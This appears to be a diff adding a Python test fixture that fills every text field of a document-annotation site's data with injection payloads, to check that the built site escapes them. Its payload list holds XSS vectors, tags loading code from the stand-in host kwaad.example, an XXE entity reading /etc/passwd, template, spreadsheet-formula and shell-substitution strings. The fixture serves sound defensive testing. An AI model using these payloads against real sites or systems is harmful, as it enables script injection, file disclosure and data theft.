@@ -1,0 +1,262 @@
+"""A corpus of hostile texts: each payload in each text field of each record, every text with a number of its own.
+
+The records are made from the model, so that a new field is hostile too. Each payload has a chapter, a note, a work with
+a number and one without, an organisation, a theme, a term, an entry in each layer and a page that is gone. Fields of
+which there is one for each letter hold all payloads, one behind the other. The words of a chapter stand in its heading,
+its paragraph, its note and every quotation of them, because those have to agree.
+"""
+
+import hashlib
+import json
+import re
+import types
+import typing
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from briefwijzer import fields, layers, model
+from briefwijzer.corpus import LAYER_FILES, load
+from briefwijzer.model import Record
+from briefwijzer.permalinks import add_to_lock
+
+# Each would call boe(), ask kwaad.example for something, make an element, change the page or be worked out, if it were
+# not text. (An element may have an x of its own, so that x() is no name for what an attack calls.)
+PAYLOADS = (
+    # elements
+    "<script>boe()</script>", "<ScRiPt>boe()</sCrIpT>", "<script src=https://kwaad.example/x.js></script>",
+    "<scr<script>ipt>boe()</scr</script>ipt>", "<img src=x onerror=boe()>",
+    "<img/src/onerror=boe()>", "<svg onload=boe()>",
+    "<svg><animate onbegin=boe() attributeName=x dur=1s>",
+    "<svg><style><img src=x onerror=boe()></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=boe()>",
+    "<iframe srcdoc='<script>parent.boe()</script>'>",
+    "<object data=javascript:boe()>", "<embed src=//kwaad.example/x.svg>", "<base href=https://kwaad.example/>",
+    "<meta http-equiv=refresh content=0;url=https://kwaad.example/>",
+    "<link rel=stylesheet href=https://kwaad.example/x.css>", "<style>@import '//kwaad.example/x.css';</style>",
+    "<body onload=boe()>", "<frameset onload=boe()>", "<image src=x onerror=boe()>", "<details open ontoggle=boe()>",
+    "<input autofocus onfocus=boe()>", "<a href=javascript:boe()>klik</a>", "<x-kwaad onclick=boe()>x",
+    "<form action=https://kwaad.example/><button>x</button></form>",
+    # ends of what may be around it
+    "</title><script>boe()</script>", "</script><script>boe()</script>",
+    "</textarea><script>boe()</script>", "</p></div></main><h1>x</h1>",
+    "<plaintext>", "<noscript><p title='</noscript><img src=x onerror=boe()>'>", "<!--", "-->",
+    "<!--><b>x", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "<![CDATA[<b>x</b>]]>", "]]><b>x</b>",
+    "<?xml version='1.0'?>",
+    # attributes
+    '"><script>boe()</script>', "'><script>boe()</script>", '" onmouseover="boe()', "' onfocus='boe()' autofocus='",
+    '" autofocus onfocus=boe() x="', "\\\"-boe()-\\\"", "${boe()}",
+    # entities and encodings
+    "&lt;script&gt;boe()&lt;/script&gt;", "&#60;img src=x onerror=boe()&#62;",
+    "\\u003cscript\\u003eboe()\\u003c/script\\u003e", "＜script＞boe()＜/script＞", "&nbsp&copy&lt",
+    # addresses
+    "javascript:boe()", "&#106;avascript:boe()", "data:text/html,<script>boe()</script>",
+    "//kwaad.example/", "\\\\kwaad.example\\x", "https://kwaad.example/<b>x",
+    # Markdown and templates
+    "[x](javascript:boe())", "![x](https://kwaad.example/x.png)", "<https://kwaad.example/>", "{: onclick=boe() }",
+    "[^1] [[x]]", '--8<-- "mkdocs.yml"', "{{ 7*7 }} {% include 'x' %} {# x #}", "# kop", "1986. **vet** _x_ `x`",
+    "*[AB]: x",
+    # spreadsheets, bibliographies and shells
+    "=HYPERLINK(\"https://kwaad.example/\")", "+boe()", "-boe()", "@SUM(A1:A9)", "a;=1+1", "} @misc{x, title={x}",
+    "$(x) `x` | x",
+)  # fmt: skip
+
+# A text of another kind with the same blanks: what a page looks like when nothing is hostile.
+HARMLESS = tuple(re.sub(r"[^A-Za-z0-9 ]", "o", payload) for payload in PAYLOADS)
+
+# Which text of its chapter a field must hold, because the checks compare the two.
+OF_THE_LETTER = {
+    ("Citation", "printed"), ("OrganisationMention", "printed"), ("Amount", "printed"), ("Measure", "printed"),
+    ("TimeExpression", "printed"), ("Position", "answer_quote"), ("Announcement", "term"), ("PageEnd", "after"),
+    ("Section", "heading"), ("Paragraph", "text"), ("Footnote", "text"), ("Term", "forms"),
+}  # fmt: skip
+FORMS = {
+    fields.Date: "2016-10-05", fields.Url: "https://brief.example.org/x?a=1&amp;b=2", fields.Origin: "inference",
+    fields.Digits: "24", fields.Vergaderjaar: "2016/17", fields.Dossier: "91000", fields.Ondernummer: "1",
+}  # fmt: skip
+
+
+@dataclass(frozen=True)
+class Hostile:
+    """A built site of hostile texts, one of harmless texts that is the same otherwise, and the hostile texts."""
+
+    site: Path
+    harmless: Path
+    texts: list[tuple[str, str, str]]
+
+
+@dataclass
+class Texts:
+    """The texts given out, each with the record and key that it was for; a text ends in its number: ``w12w``."""
+
+    payloads: tuple[str, ...]
+    given: list[tuple[str, str, str]] = field(default_factory=list)
+
+    def new(self, payload, record, key):
+        self.given.append((record, key, f"{self.payloads[payload]} w{len(self.given)}w"))
+        return self.given[-1][2]
+
+    def all(self, record, key):
+        """Every payload, one behind the other."""
+        return " ".join(self.new(payload, record, key) for payload in range(len(self.payloads)))
+
+
+@dataclass
+class Maker:
+    """Makes records in which every key is there and every text is hostile."""
+
+    texts: Texts
+
+    def record(self, kind, payload, words="", /, **given):
+        """A record as YAML holds it; ``payload`` None puts all of them in each text, ``words`` are its chapter's."""
+        made = {}
+        for key, hint in typing.get_type_hints(kind, include_extras=True).items():
+            if key.startswith("_") or key == "model_config":
+                continue
+            value = given[key] if key in given else self.value(kind.__name__, key, hint, payload, words)
+            if value is not None:
+                made[key] = value
+        return made
+
+    def value(self, record, key, hint, payload, words):
+        inner = [part for part in typing.get_args(hint) if part is not type(None)]
+        if hint in (fields.Text, fields.MarkedText):
+            if words and ((record, key) in OF_THE_LETTER or key == "quote"):
+                return words
+            return self.texts.all(record, key) if payload is None else self.texts.new(payload, record, key)
+        if hint in FORMS:
+            return FORMS[hint]
+        if isinstance(hint, type) and issubclass(hint, Record):
+            return self.record(hint, payload, words)
+        if typing.get_origin(hint) is typing.Literal:
+            return inner[0]
+        if typing.get_origin(hint) is list:
+            payloads = range(len(self.texts.payloads)) if payload is None else [payload]
+            return [self.value(record, key, inner[0], each, words) for each in payloads]
+        if typing.get_origin(hint) in (typing.Union, types.UnionType):
+            return self.value(record, key, inner[0], payload, words)
+        return None  # an id: it has to lead somewhere, and is given
+
+
+def write_hostile(data, payloads=PAYLOADS):
+    """Write the corpus to the folder ``data``; returns its texts. Two letters, the second with one chapter."""
+    texts = Texts(payloads)
+    make = Maker(texts)
+    every = range(len(payloads))
+    letters = {"kst-90001-1": write_letter(data, make, "kst-90001-1", every)}
+    letters["kst-90002-5"] = write_letter(data, make, "kst-90002-5", [0])
+    of = letters["kst-90001-1"]
+    paper = {"chamber": "II", "vergaderjaar": "2016/17", "dossier": "91000", "source": "letter", "confidence": "high"}
+    works = []
+    for number in every:
+        works.append(make.record(model.Work, number, id=f"werk-{number}", kind="report", kamerstuk=None))
+        its = paper | {"ondernummer": str(number + 1), "title": texts.new(number, "PaperNumber", "title")}
+        works.append(make.record(model.Work, number, id=f"kst-91000-{number + 1}", kind="kamerstuk", kamerstuk=its))
+    write(data / "works.yml", {"works": works})
+    organisations = [
+        make.record(layers.Organisation, each, id=f"orgaan-{each}", abbreviation=of[each]) for each in every
+    ]
+    write(data / "organisations.yml", {"organisations": organisations})
+    write(data / "themes.yml", {"themes": [make.record(layers.Theme, each, id=f"thema-{each}") for each in every]})
+    terms = [make.record(layers.Term, each, of[each], id=f"begrip-{each}") for each in every]
+    synonyms = [
+        make.record(layers.Synonyms, each, words=[texts.new(each, "Synonyms", "words"), f"w{each}"]) for each in every
+    ]
+    write(data / "terms.yml", {"terms": terms, "synonyms": synonyms})
+    write_moved(data, make, every)
+    return texts
+
+
+def write_letter(data, make, name, every):
+    """Write one letter with a chapter for each payload; returns the words of each chapter."""
+    folder, texts = data / "letters" / name, make.texts
+    words = {each: texts.new(each, "Paragraph", "text") for each in every}
+    source, sections, notes, ends = [], [], [], []
+    found = {file.removesuffix(".yml"): [] for file in LAYER_FILES} | {"reviewed": [], "numbers": []}
+    for number, (each, text) in enumerate(words.items(), 1):
+        paragraph = f"s{number}-p1"
+        marked = f"{text}⟦{number}⟧"
+        source += [f" {number}. {text}", "", f"{text}{number}", "", f"{number}", f"  {text}", ""]
+        sections.append({
+            "id": f"s{number}", "label": f"{number}.", "heading": text,
+            "paragraphs": [{"id": paragraph, "text": marked}],
+        })  # fmt: skip
+        ends.append({"paragraph": paragraph, "after": marked, "notes": [str(number)]})
+        cited = make.record(model.Citation, each, text, work=f"werk-{each}")
+        notes.append(
+            make.record(
+                model.Footnote, each, text, id=f"fn{number}", number=str(number), kind="citation", citations=[cited]
+            )
+        )
+        given = {
+            "paragraph": paragraph, "theme": f"thema-{each}", "themes": [f"thema-{each}"],
+            "organisation": f"orgaan-{each}", "bodies": [f"orgaan-{each}"], "work": f"kst-91000-{each + 1}",
+            "answer_paragraph": paragraph, "review": "agreed",
+        }  # fmt: skip
+        for layer, kind in {
+            "mentions": layers.Mention, "oddities": layers.Oddity, "themes": layers.ThemeUse,
+            "organisations": layers.OrganisationMention, "positions": layers.Position,
+            "announcements": layers.Announcement, "reviewed": layers.NotAnnounced, "amounts": layers.Amount,
+            "numbers": layers.Measure, "dates": layers.TimeExpression,
+        }.items():  # fmt: skip
+            known = {key: value for key, value in given.items() if key in kind.model_fields}
+            known |= {"id": f"{layer}-{each}"} if "id" in kind.model_fields else {}
+            found[layer].append(make.record(kind, each, text, **known))
+        choice = {"theme": f"thema-{each}", "part": "reports"}
+        found["agreement"].append(
+            make.record(layers.Reading, each, paragraph=paragraph, first=[choice], second=[choice])
+        )
+    folder.mkdir(parents=True)
+    text = "\n".join(source)
+    (folder / "source.txt").write_text(text, encoding="utf-8")
+    file = {"file": "source.txt", "sha256": hashlib.sha256(text.encode()).hexdigest(), "joined": None, "pages": ends}
+    _, dossier, paper = name.split("-")
+    number = make.record(model.PaperNumber, None, dossier=dossier, ondernummer=paper, chamber="II")
+    of = make.record(model.SourceText, None, **file)
+    date = make.record(model.DateFact, None, value="2017-02-13")
+    letter = make.record(model.Letter, None, id=name, kamerstuk=number, date=date, bridge=None, source=of)
+    for at, filed in enumerate(letter["dossiers"]):
+        filed["dossier"] = str(int(dossier) + at)
+    write(folder / "letter.yml", letter)
+    write(folder / "text.yml", {"sections": sections})
+    write(folder / "footnotes.yml", {"footnotes": notes})
+    (folder / "annotations").mkdir()
+    for file, kind in LAYER_FILES.items():
+        layer = {key: found[key] for key in kind.model_fields if key in found}
+        if file == "agreement.yml":
+            layer = {"alpha": texts.all("AgreementFile", "alpha"), "readings": found["agreement"]}
+        write(folder / "annotations" / file, layer)
+    return words
+
+
+def write_moved(data, make, every):
+    """Pages and an id that are gone, with the reason, and some that lead elsewhere; and the lock of all addresses."""
+    letter, moved = "brieven/kst-90001-1/", []
+    for each in every:
+        old = f"{letter}weg-{each}/"
+        moved.append(make.record(model.Moved, each, old=old, new=None))
+        moved.append(make.record(model.Moved, each, old=f"{letter}1/#s1-p{each + 2}", new=None))
+    moved.append(make.record(model.Moved, 0, old=f"{letter}elders/", new=letter, reason=None))
+    (data / "ids.lock").write_text("".join(sorted(f"{move['old']}\n" for move in moved)), encoding="utf-8")
+    write(data / "moved.yml", {"moved": moved})
+    add_to_lock(load(data))
+
+
+def write(path, value):
+    path.write_text("\n".join(yaml_of(value)) + "\n", encoding="utf-8")
+
+
+def yaml_of(value):
+    """Lines of YAML in which each text stands between quotes."""
+    for key, inner in value.items():
+        if isinstance(inner, str):
+            yield f"{key}: {json.dumps(inner, ensure_ascii=False)}"
+        elif isinstance(inner, dict):
+            yield f"{key}:"
+            yield from (f"  {line}" for line in yaml_of(inner))
+        elif not inner:
+            yield f"{key}: []"
+        else:
+            yield f"{key}:"
+            for item in inner:
+                lines = [json.dumps(item, ensure_ascii=False)] if isinstance(item, str) else [*yaml_of(item)]
+                yield from (f"  {'  ' if at else '- '}{line}" for at, line in enumerate(lines))
